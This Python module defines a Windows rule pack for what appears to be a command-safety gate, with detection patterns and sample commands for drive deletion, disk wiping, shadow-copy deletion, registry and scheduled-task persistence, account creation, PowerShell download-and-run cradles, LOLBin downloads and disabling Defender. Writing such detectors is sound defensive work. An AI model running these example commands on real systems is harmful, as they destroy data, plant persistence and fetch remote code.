"""Windows rules: cmd.exe and PowerShell destruction, persistence, downloads and privilege."""

from __future__ import annotations

import re

from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, rule

_DRIVE_ROOT = re.compile(r"^[A-Za-z]:[\\/]?(?:\*(?:\.\*)?)?$|^[A-Za-z]:[\\/]?(?:windows|users|program files)[\\/]?$", re.I)


def _flag(cmd, *names: str) -> bool:
    for arg in cmd.args:
        if arg.lower() in names:
            return True
    return False


RULES = [
    rule("win.delete-drive", CATASTROPHIC, "windows fs", "recursively deletes a drive root or Windows directory",
         names="del erase rd rmdir remove-item ri rm", tier=IRREVERSIBLE,
         test=lambda c: (_flag(c, "/s", "-recurse", "-r") or c.name in ("rd", "rmdir") and _flag(c, "/s"))
         and any(_DRIVE_ROOT.match(a) for a in c.args),
         examples=["del /s /q C:\\", "rd /s /q C:\\Windows", "Remove-Item -Recurse -Force C:\\"],
         counter=["del /q build\\out.txt"]),
    rule("win.delete", DANGEROUS, "windows fs", "deletes files", names="del erase rd remove-item ri",
         examples=["del /q file.txt", "Remove-Item x.txt"], counter=["dir"]),
    rule("win.format", CATASTROPHIC, "windows fs", "formats or wipes a disk", names="format diskpart cipher format-volume clear-disk",
         tier=IRREVERSIBLE, test=lambda c: c.name != "cipher" or any(a.lower().startswith("/w") for a in c.args),
         examples=["format C: /q", "diskpart", "cipher /w:C:\\"], counter=["cipher /?x"]),
    rule("win.shadow-delete", CATASTROPHIC, "windows evasion", "deletes volume shadow copies (ransomware step)",
         names="vssadmin wmic wbadmin bcdedit", tier=IRREVERSIBLE,
         args=r"(?i)delete\s+shadows|shadowcopy\s+delete|delete\s+catalog|recoveryenabled\s+no|bootstatuspolicy",
         examples=["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete"], counter=["vssadmin list shadows"]),
    rule("win.registry", DANGEROUS, "windows evasion", "changes the registry", names="reg regedit set-itemproperty new-itemproperty",
         test=lambda c: c.name != "reg" or (bool(c.operands) and c.operands[0].lower() in ("add", "delete", "import", "load", "restore", "copy")),
         examples=["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil.exe"],
         counter=["reg query HKCU\\Software"]),
    rule("win.schtasks", DANGEROUS, "windows evasion", "creates or changes scheduled tasks", names="schtasks register-scheduledtask",
         test=lambda c: c.name != "schtasks" or _flag(c, "/create", "/change", "/delete", "/run"),
         examples=["schtasks /create /tn x /tr evil.exe /sc onlogon"], counter=["schtasks /query"]),
    rule("win.accounts", DANGEROUS, "windows creds", "creates users or changes group membership", names="net net1 add-localgroupmember new-localuser",
         test=lambda c: c.name != "net" or (bool(c.operands) and c.operands[0].lower() in ("user", "localgroup", "group", "share", "use")),
         tier=IRREVERSIBLE, examples=["net user administrator Password123!", "net localgroup administrators bob /add"],
         counter=["net start"]),
    rule("win.acl", DANGEROUS, "windows fs", "takes ownership or grants broad file permissions", names="icacls takeown cacls",
         test=lambda c: c.name != "icacls" or _flag(c, "/grant", "/setowner", "/reset", "/remove", "/deny"),
         examples=["icacls file.exe /grant Everyone:F", "takeown /f C:\\Windows\\System32"], counter=["icacls file.exe"]),
    rule("win.setx-path", DANGEROUS, "windows evasion", "changes persistent environment variables", names="setx",
         examples=["setx PATH \"C:\\malicious;%PATH%\""], counter=["set"]),
    rule("win.powershell-download", DANGEROUS, "windows net exec", "PowerShell downloads and runs code", raw="always", needles="iex invoke- download iwr bitstransfer webclient",
         tier=IRREVERSIBLE, args=r"(?i)\b(?:iex|invoke-expression)\b|downloadstring|downloadfile|invoke-webrequest|\biwr\b|start-bitstransfer|net\.webclient",
         examples=["powershell -c \"iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))\""],
         counter=["powershell -c Get-Date"]),
    rule("win.powershell-encoded", DANGEROUS, "windows obfuscation", "PowerShell runs an encoded or hidden command",
         names="powershell pwsh powershell.exe", args=r"(?i)(?:^|\s)-(?:e|ec|enc|encodedcommand|w\s+hidden|windowstyle\s+hidden|nop|executionpolicy\s+bypass|ep\s+bypass)\b",
         examples=["powershell -enc SQBFAFgA", "powershell -ep bypass -f x.ps1"], counter=["pwsh -v"]),
    rule("win.powershell", DANGEROUS, "windows exec", "runs PowerShell code", names="powershell pwsh",
         examples=["powershell -c Get-Process"], counter=["ls"]),
    rule("win.lolbin", DANGEROUS, "windows exec net", "a built-in Windows binary abused to download or run code",
         names="certutil bitsadmin mshta rundll32 regsvr32 installutil msbuild cmstp wscript cscript forfiles msiexec odbcconf",
         tier=IRREVERSIBLE, examples=["certutil -urlcache -f https://x.example/m.exe m.exe", "mshta http://x.example/a.hta"],
         counter=["ls"]),
    rule("win.runas", DANGEROUS, "windows exec", "runs a program as another user", names="runas start-process",
         examples=["runas /user:Administrator cmd"], counter=["whoami"]),
    rule("win.taskkill", DANGEROUS, "windows exec", "kills processes", names="taskkill stop-process",
         examples=["taskkill /F /IM process.exe"], counter=["tasklist"]),
    rule("win.defender-off", DANGEROUS, "windows evasion", "disables Windows Defender or the firewall", raw="always", needles="disablerealtime add-mppreference firewall",
         tier=IRREVERSIBLE, args=r"(?i)DisableRealtimeMonitoring|Add-MpPreference\s+-ExclusionPath|netsh\s+(?:adv)?firewall\s+set\s+\w*\s*state\s+off",
         examples=["powershell Set-MpPreference -DisableRealtimeMonitoring $true"], counter=["powershell Get-MpPreference"]),
    rule("win.cmd", DANGEROUS, "windows exec", "runs a cmd.exe command line", names="cmd",
         examples=["cmd /c dir"], counter=["dir"]),
]

PACK = Pack("windows", "cmd.exe and PowerShell: destruction, persistence, downloads and privilege.", rules=RULES)
